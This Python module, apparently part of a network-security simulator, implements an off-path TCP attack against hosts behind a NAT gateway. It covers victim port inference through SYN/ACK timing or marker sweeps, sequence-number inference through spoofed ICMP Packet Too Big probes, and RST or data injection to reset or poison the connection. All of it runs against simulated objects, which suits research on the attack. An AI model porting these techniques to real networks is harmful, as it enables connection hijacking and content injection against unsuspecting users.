"""Off-path attacker and its puppet.

The attacker drives the simulation from outside the event loop: it injects
spoofed traffic, advances the engine, then reads what the puppet saw. The
two collude out of band, so reading the puppet's state directly is fair
game; reading the victim or the gateway is not, and nothing here does.

Attack steps:

* connection identification, either by reserving the port range behind a
  port-preserving gateway and timing SYN/ACKs, or by sweeping marker
  packets over a sequentially allocating gateway;
* sequence inference by group testing spoofed PTBs against the server's
  shared path-MTU cache, with a strictly decreasing MTU ladder so that each
  positive round is visible in the puppet's segment sizes;
* RST or data injection built from the inferred sequence number.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Iterable, Optional, Sequence, Union

import numpy as np

from .netmodel import (
    ACK,
    PSH,
    RST,
    SEQ_MASK,
    SEQ_SPACE,
    EmbeddedHeader,
    IcmpPtb,
    ModRange,
    Packet,
    PacketBurst,
    TcpSegment,
)
from .simcore import Engine, ms, seconds
from .tcpstack import AppKind, AppPayloadModel, ConnState, Host, TcpConnection
from .topology import ROUTER_IP, Topology

SeqValues = Union[ModRange, Sequence[int], np.ndarray]


class FailReason(str, enum.Enum):
    LADDER_EXHAUSTED = "LadderExhausted"
    NO_HIT = "NoHit"
    SESSION_VANISHED = "SessionVanished"
    NO_CANDIDATE = "NoCandidate"


class InferenceFailed(Exception):
    def __init__(self, reason: FailReason, detail: str = "") -> None:
        super().__init__(f"{reason.value}: {detail}" if detail else reason.value)
        self.reason = reason


class PortVerdict(str, enum.Enum):
    FREE = "Free"
    OCCUPIED = "Occupied"


class InjectionKind(str, enum.Enum):
    RST = "Rst"
    DATA = "Data"


class Outcome(str, enum.Enum):
    CONNECTION_RESET = "ConnectionReset"
    CONTENT_POISONED = "ContentPoisoned"
    NO_EFFECT = "NoEffect"


@dataclass(frozen=True)
class AttackParams:
    stride: int = 4096
    ladder_start: int = 1400
    probe_rate: int = 10_000
    settle: int = ms(150)
    slice_interval: int = ms(20)
    sweep_rate: int = 10_000
    spray_radius: int = 1 << 12
    injection_rate: int = 100_000
    reservation: tuple[int, int] = (1024, 40000)
    payload_len: int = 512
    payload_tag: str = "ATTACKER"
    marker_len: int = 16
    observe_pace: int = ms(50)
    observe_size: int = 1 << 30

    def __post_init__(self) -> None:
        object.__setattr__(self, "reservation", tuple(self.reservation))
        s = self.stride
        if s <= 0 or s & (s - 1) or s > SEQ_SPACE:
            raise ValueError(f"stride {s} must be a power of two <= 2**32")
        for name in ("probe_rate", "sweep_rate", "injection_rate", "slice_interval", "settle"):
            if getattr(self, name) <= 0:
                raise ValueError(f"{name} must be positive")
        lo, hi = self.reservation
        if not lo <= hi:
            raise ValueError(f"bad reservation range {self.reservation}")


@dataclass(frozen=True)
class ProbeCalibration:
    delta_t: int
    occupied_threshold: int = 0
    probe_timeout: int = seconds(10)

    def __post_init__(self) -> None:
        if self.occupied_threshold == 0:
            object.__setattr__(self, "occupied_threshold", 3 * self.delta_t)
        if self.occupied_threshold <= self.delta_t:
            raise ValueError("occupied threshold must exceed the baseline RTT")
        if self.probe_timeout < self.occupied_threshold:
            raise ValueError("probe timeout shorter than the occupied threshold")


@dataclass
class PhaseLedger:
    name: str
    start: int
    end: int = 0
    packets: int = 0
    octets: int = 0

    @property
    def elapsed_s(self) -> float:
        return (self.end - self.start) / 1e6

    @property
    def bits_per_s(self) -> float:
        dt = self.end - self.start
        return self.octets * 8 * 1e6 / dt if dt > 0 else 0.0


@dataclass
class SeqInference:
    in_window_seq: int
    snd_una_est: int
    probes_sent: int
    positives_used: int
    ladder_used: list[int] = field(default_factory=list)


@dataclass(frozen=True)
class InjectionPlan:
    kind: InjectionKind
    target_external_port: int
    seq: int
    seqs: ModRange
    ack_values: ModRange
    payload_tag: str
    payload_len: int

    def __len__(self) -> int:
        return len(self.seqs) * len(self.ack_values)


# ---------------------------------------------------------------- group test


class GroupTest:
    """Adaptive search for the lowest in-window multiple of ``stride``.

    ``probe(values, mtu)`` reports whether any value is inside the unknown
    window; a positive answer consumes ``mtu`` and the next test uses a value
    one lower. Independent of the simulator, so it is testable against a
    plain window oracle.
    """

    def __init__(self, stride: int, ladder_start: int, floor: int) -> None:
        self.stride = stride
        self.mtu = ladder_start
        self.floor = floor
        self.probes = 0
        self.ladder_used: list[int] = []

    @property
    def positives(self) -> int:
        return len(self.ladder_used)

    def _test(self, probe: Callable[[SeqValues, int], bool], values: SeqValues) -> bool:
        if self.mtu <= self.floor:
            raise InferenceFailed(FailReason.LADDER_EXHAUSTED, f"next MTU {self.mtu}")
        self.probes += len(values)
        if probe(values, self.mtu):
            self.ladder_used.append(self.mtu)
            self.mtu -= 1
            return True
        return False

    def run(self, probe: Callable[[SeqValues, int], bool]) -> SeqInference:
        stride = self.stride
        lo, hi = 0, SEQ_SPACE // stride
        while hi - lo > 1:
            mid = lo + (hi - lo) // 2
            if self._test(probe, ModRange(lo * stride, mid - lo, stride)):
                hi = mid
            else:
                lo = mid
        v = lo * stride
        if self.positives == 0 and not self._test(probe, [v]):
            raise InferenceFailed(FailReason.NO_HIT, "no candidate ever answered")
        if lo == 0:
            # the window may wrap below zero; walk down whole strides
            while self._test(probe, [(v - stride) & SEQ_MASK]):
                v = (v - stride) & SEQ_MASK
        # lowest in-window value lies in (v - stride, v]
        a, b = 1, stride
        while a < b:
            m = (a + b) // 2
            if self._test(probe, [(v - stride + m) & SEQ_MASK]):
                b = m
            else:
                a = m + 1
        snd_una_est = (v - stride + b) & SEQ_MASK
        return SeqInference(lo * stride, snd_una_est, self.probes, self.positives,
                            list(self.ladder_used))


# ---------------------------------------------------------------- attack


class Attack:
    """State shared by the attacker and the puppet during one trial."""

    def __init__(self, topo: Topology, params: AttackParams, server_port: int) -> None:
        self.topo = topo
        self.engine: Engine = topo.engine
        self.params = params
        self.server_ip = topo.server.ip
        self.server_port = server_port
        self.public_ip = topo.gateway.public_ip
        self.puppet: Host = topo.puppet
        self.observer: Optional[TcpConnection] = None
        self.phases: list[PhaseLedger] = []
        self.held: dict[int, TcpConnection] = {}

    # ------------------------------------------------------ bookkeeping

    def _tx(self) -> tuple[int, int]:
        a, p = self.topo.attacker, self.puppet
        return a.tx_packets + p.tx_packets, a.tx_octets + p.tx_octets

    def begin_phase(self, name: str) -> PhaseLedger:
        pkts, octets = self._tx()
        ledger = PhaseLedger(name, self.engine.now, packets=-pkts, octets=-octets)
        self.phases.append(ledger)
        return ledger

    def end_phase(self, ledger: PhaseLedger) -> PhaseLedger:
        pkts, octets = self._tx()
        ledger.end = self.engine.now
        ledger.packets += pkts
        ledger.octets += octets
        return ledger

    def spray(self, frame: PacketBurst | Packet, rate: int) -> None:
        """Inject at ``rate`` packets/s, one slice per ``slice_interval``."""
        interval = self.params.slice_interval
        per_slice = max(1, rate * interval // 1_000_000)
        engine, node = self.engine, self.topo.attacker
        if isinstance(frame, Packet):
            engine.spoof_inject(node, frame)
            engine.run_for(max(1, 1_000_000 // rate))
            return
        n = len(frame)
        for lo in range(0, n, per_slice):
            part = frame.slice(lo, lo + per_slice)
            engine.spoof_inject(node, part)
            engine.run_for(interval * len(part) // per_slice or 1)

    def wait(self, delay: int) -> None:
        self.engine.run_for(delay)

    # ------------------------------------------------------ puppet side

    def open_observer(self, local_port: Optional[int] = None, timeout: int = seconds(5)) -> TcpConnection:
        """Puppet's long-lived connection carrying paced downstream data."""
        p = self.params
        app = AppPayloadModel(AppKind.FTP_LIKE, "PUPPET", size=p.observe_size,
                              pace_interval=p.observe_pace)
        conn = self.puppet.stack.connect(self.server_ip, self.server_port, local_port, app=app)
        conn.skip_holes = True
        self._await(lambda: conn.state is not ConnState.SYN_SENT, timeout)
        if conn.state is not ConnState.ESTABLISHED:
            raise InferenceFailed(FailReason.SESSION_VANISHED, "observer connection failed")
        self.observer = conn
        # let the first data segment arrive so sizes can be compared
        self._await(lambda: conn.last_rx_len is not None, timeout)
        return conn

    def _await(self, cond: Callable[[], bool], timeout: int, step: int = ms(1)) -> bool:
        deadline = self.engine.now + timeout
        while not cond():
            if self.engine.now >= deadline:
                return False
            self.engine.run_for(step)
        return True

    def observer_pmtu(self) -> Optional[int]:
        return None if self.observer is None else self.observer.last_rx_len

    def captured_since(self, index: int) -> list[int]:
        return [int(tag[4:]) for _, _, tag in self.puppet.captured[index:]]


# ---------------------------------------------------------------- port preservation


def calibrate(attack: Attack) -> ProbeCalibration:
    """Baseline SYN to SYN/ACK time, from the observer's own handshake."""
    conn = attack.observer
    if conn is None or conn.established_at is None:
        raise RuntimeError("open the observer connection first")
    return ProbeCalibration(conn.established_at - conn.syn_sent_at)


def reserve_ports(attack: Attack, lo: int, hi: int, settle: int = seconds(1)) -> int:
    """Open one puppet connection per internal source port in ``[lo, hi]``.

    Ports the puppet already uses toward the server are skipped. Returns the
    number of connections that reached Established.
    """
    stack = attack.puppet.stack
    remote = (attack.server_ip, attack.server_port)
    ports = [q for q in range(lo, hi + 1) if (q, *remote) not in stack.connections]
    conns = _paced_connects(attack, ports, retries=0)
    attack.wait(settle)
    established = 0
    for q, conn in zip(ports, conns):
        if conn.state is ConnState.ESTABLISHED:
            attack.held[q] = conn
            established += 1
    return established


def _paced_connects(attack: Attack, ports: Sequence[int], retries: int,
                    syn_timeout: int = seconds(1), release: bool = False) -> list[TcpConnection]:
    stack = attack.puppet.stack
    p = attack.params
    per_slice = max(1, p.sweep_rate * p.slice_interval // 1_000_000)
    out: list[TcpConnection] = []
    for i in range(0, len(ports), per_slice):
        for q in ports[i:i + per_slice]:
            if release:
                attack.held.pop(q, None)
                # also covers an earlier probe whose SYN is still unanswered
                old = stack.connections.get((q, attack.server_ip, attack.server_port))
                if old is not None:
                    stack.abort(old)
            out.append(stack.connect(attack.server_ip, attack.server_port, q,
                                     retries=retries, syn_timeout=syn_timeout))
        attack.engine._flush()
        attack.wait(p.slice_interval)
    return out


def probe_port_preserved(attack: Attack, port: int, cal: ProbeCalibration) -> PortVerdict:
    return probe_ports_preserved(attack, [port], cal)[port]


def probe_ports_preserved(attack: Attack, ports: Sequence[int],
                          cal: ProbeCalibration) -> dict[int, PortVerdict]:
    """Release the puppet's hold on each port, reconnect from it, time it.

    A quick SYN/ACK means the gateway preserved the port, so nobody else
    holds it toward the server. A slow or missing one means the conflict
    search ran, which only happens if another device holds the port.
    """
    conns = _paced_connects(attack, list(ports), retries=0,
                            syn_timeout=cal.probe_timeout, release=True)
    attack.wait(cal.occupied_threshold)
    verdicts: dict[int, PortVerdict] = {}
    for q, conn in zip(ports, conns):
        rtt = None if conn.established_at is None else conn.established_at - conn.syn_sent_at
        free = rtt is not None and rtt <= cal.occupied_threshold
        verdicts[q] = PortVerdict.FREE if free else PortVerdict.OCCUPIED
        if conn.state is ConnState.ESTABLISHED:
            attack.held[q] = conn
    return verdicts


def infer_port_preserved(attack: Attack, cal: ProbeCalibration, sweeps: int = 2) -> list[int]:
    """Reserve low ports, fill the rest, then probe the rest one by one.

    Returns the ports flagged as held by someone other than the puppet.

    Filling the high range displaces the puppet's own hold on the victim's
    port to some other external port. Releasing that hold leaves exactly one
    idle port, and a probe's search can land on it by chance; the victim's
    port then reads Free and the displaced one Occupied. A repeat sweep
    undoes the swap, so only ports flagged by every sweep are reported.
    """
    if sweeps < 1:
        raise ValueError("need at least one probe sweep")
    lo, hi = attack.params.reservation
    port_hi = attack.topo.gateway.config.port_range[1]
    reserve_ports(attack, lo, hi)
    reserve_ports(attack, hi + 1, port_hi)
    flagged: Optional[set[int]] = None
    for _ in range(sweeps):
        verdicts = probe_ports_preserved(attack, range(hi + 1, port_hi + 1), cal)
        occupied = {q for q, v in verdicts.items() if v is PortVerdict.OCCUPIED}
        flagged = occupied if flagged is None else flagged & occupied
    return sorted(flagged)


# ---------------------------------------------------------------- sequential


def _marker_template(attack: Attack, dst_port: int = 0) -> Packet:
    seg = TcpSegment(attack.server_ip, attack.server_port, attack.public_ip, dst_port,
                     0, 0, ACK | PSH, attack.params.marker_len)
    return Packet.tcp(seg)


def infer_baseline_sequential(attack: Attack, order: Optional[Iterable[int]] = None) -> int:
    """Sweep server-sourced markers over the public ports until one lands.

    Each marker carries ``TCP_<port>``; the puppet reads whichever arrives on
    its own mapping.
    """
    p = attack.params
    lo, hi = attack.topo.gateway.config.port_range
    ports = np.arange(lo, hi + 1, dtype=np.int64) if order is None else np.fromiter(order, np.int64)
    burst = PacketBurst(_marker_template(attack), "dst_port", ports, marker=True)
    mark = len(attack.puppet.captured)
    per_slice = max(1, p.sweep_rate * p.slice_interval // 1_000_000)
    for i in range(0, len(burst), per_slice):
        attack.engine.spoof_inject(attack.topo.attacker, burst.slice(i, i + per_slice))
        attack.wait(p.slice_interval)
        got = attack.captured_since(mark)
        if got:
            return got[0]
    attack.wait(p.settle)
    got = attack.captured_since(mark)
    if got:
        return got[0]
    raise InferenceFailed(FailReason.SESSION_VANISHED, "no marker reached the puppet")


def detect_victim_sequential(attack: Attack, p: int, probe_port: Optional[int] = None,
                             open_fresh: bool = True) -> bool:
    """True iff a marker to ``p + 1`` (or ``probe_port``) misses the puppet."""
    target = p + 1 if probe_port is None else probe_port
    if open_fresh:
        conn = attack.puppet.stack.connect(attack.server_ip, attack.server_port)
        attack._await(lambda: conn.state is not ConnState.SYN_SENT, seconds(5))
    mark = len(attack.puppet.captured)
    seg = TcpSegment(attack.server_ip, attack.server_port, attack.public_ip, target,
                     0, 0, ACK | PSH, attack.params.marker_len, f"TCP_{target}")
    attack.spray(Packet.tcp(seg), attack.params.sweep_rate)
    attack.wait(attack.params.settle)
    return target not in attack.captured_since(mark)


# ---------------------------------------------------------------- sequence inference


def infer_sequence(attack: Attack, victim_port: int, floor: int = 552) -> SeqInference:
    """Group-test spoofed PTBs quoting the victim's flow.

    ``floor`` is the attacker's assumption about the server's PMTU floor;
    the ladder never goes to or below it.
    """
    p = attack.params
    if attack.observer is None:
        raise RuntimeError("open the observer connection first")
    quote = EmbeddedHeader(attack.server_ip, attack.public_ip, attack.server_port, victim_port, 0)
    observer = attack.observer

    def probe(values: SeqValues, mtu: int) -> bool:
        ptb = Packet.icmp(IcmpPtb(ROUTER_IP, attack.server_ip, mtu, quote))
        if isinstance(values, ModRange):
            arr = values.array()
        else:
            arr = np.asarray(values, dtype=np.int64)
        attack.spray(PacketBurst(ptb, "embedded_seq", arr), p.probe_rate)
        attack.wait(p.settle)
        seen = observer.last_rx_len
        return seen is not None and seen <= mtu

    return GroupTest(p.stride, p.ladder_start, floor).run(probe)


# ---------------------------------------------------------------- injection


def build_injection(kind: InjectionKind | str, victim_port: int, seq_est: int, profile_w: int,
                    spray_radius: int = 1 << 12, payload_tag: str = "ATTACKER",
                    payload_len: int = 512) -> InjectionPlan:
    kind = InjectionKind(kind)
    if kind is InjectionKind.RST:
        seqs = ModRange(seq_est - spray_radius, 2 * spray_radius + 1)
        acks = ModRange(0, 1)
        return InjectionPlan(kind, victim_port, seq_est & SEQ_MASK, seqs, acks, payload_tag, 0)
    if profile_w <= 0 or SEQ_SPACE % profile_w:
        raise ValueError(f"ack window {profile_w} must divide 2**32")
    acks = ModRange(0, SEQ_SPACE // profile_w, profile_w)
    return InjectionPlan(kind, victim_port, seq_est & SEQ_MASK, ModRange(seq_est, 1), acks,
                         payload_tag, payload_len)


def injection_bursts(attack: Attack, plan: InjectionPlan,
                     chunk: int = 1 << 16) -> Iterable[PacketBurst]:
    """The plan as lazily built bursts, at most ``chunk`` packets each."""
    server, sport = attack.server_ip, attack.server_port
    dst, dport = attack.public_ip, plan.target_external_port
    if plan.kind is InjectionKind.RST:
        tmpl = Packet.tcp(TcpSegment(server, sport, dst, dport, 0, 0, RST))
        rng, name = plan.seqs, "seq"
    else:
        tmpl = Packet.tcp(TcpSegment(server, sport, dst, dport, plan.seq, 0, ACK | PSH,
                                     plan.payload_len, plan.payload_tag))
        rng, name = plan.ack_values, "ack"
    for lo in range(0, len(rng), chunk):
        yield PacketBurst(tmpl, name, rng.array(lo, lo + chunk))


def execute_injection(attack: Attack, plan: InjectionPlan,
                      judge: Callable[[], Outcome]) -> Outcome:
    """Send the plan toward the victim's mapping, then ask ``judge``.

    The judge reads ground truth (victim state and delivery record); the
    attacker itself cannot see the victim.
    """
    for burst in injection_bursts(attack, plan):
        attack.spray(burst, attack.params.injection_rate)
    attack.wait(attack.params.settle)
    return judge()
